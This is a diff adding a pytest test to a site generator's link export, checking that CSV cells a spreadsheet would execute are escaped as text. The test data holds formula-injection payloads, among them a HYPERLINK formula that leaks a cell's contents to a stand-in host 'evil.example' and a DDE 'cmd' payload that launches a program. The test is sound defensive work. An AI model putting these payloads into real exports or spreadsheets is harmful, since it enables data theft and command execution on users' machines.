@@ -9,7 +9,7 @@ import xml.etree.ElementTree as ET
 
 import pytest
 from bs4 import BeautifulSoup
-from conftest import build_root, soup_of
+from conftest import ROOTS, build_root, build_srcdir, soup_of
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
@@ -172,6 +172,41 @@ def test_link_database_agrees_with_the_pages(basic):
     first = rows[0]
     assert first["commentary"] == "Commentary of the first card with a link. Second paragraph."
     assert first["date"] == "2020-12-25" and first["permalink"] == "issues/0001.html#link-1"
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "site": "@SUM(1+1)",
+    "excerpt": "+cmd|' /C calc'!A0",
+    "commentary": "-2+3",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    import shutil
+
+    srcdir = tmp_path / "book"
+    shutil.copytree(ROOTS / "test-basic", srcdir)
+    page = srcdir / "issues" / "0003.md"
+    card = (
+        f"\n:::{{link}} https://example.com/formula\n:title: {json.dumps(FORMULAS['title'])}\n"
+        f":site: {json.dumps(FORMULAS['site'])}\n:excerpt: {json.dumps(FORMULAS['excerpt'])}\n"
+        f"\n{FORMULAS['commentary']}\n:::\n"
+    )
+    page.write_text(page.read_text(encoding="utf-8") + card, encoding="utf-8")
+    outdir = build_srcdir(srcdir).outdir
+    with (outdir / "links.csv").open(encoding="utf-8", newline="") as handle:
+        (row,) = [r for r in csv.DictReader(handle) if r["url"] == "https://example.com/formula"]
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value, field
+    # Every other cell is as it was, and links.json keeps the values as written.
+    assert row["issue"] == "3" and row["permalink"].startswith("issues/0003.html#")
+    (entry,) = [
+        r
+        for r in json.loads((outdir / "links.json").read_text(encoding="utf-8"))["links"]
+        if r["url"] == "https://example.com/formula"
+    ]
+    assert {field: entry[field] for field in FORMULAS} == FORMULAS
 
 
 def test_control_characters_do_not_break_the_feed(hostile):
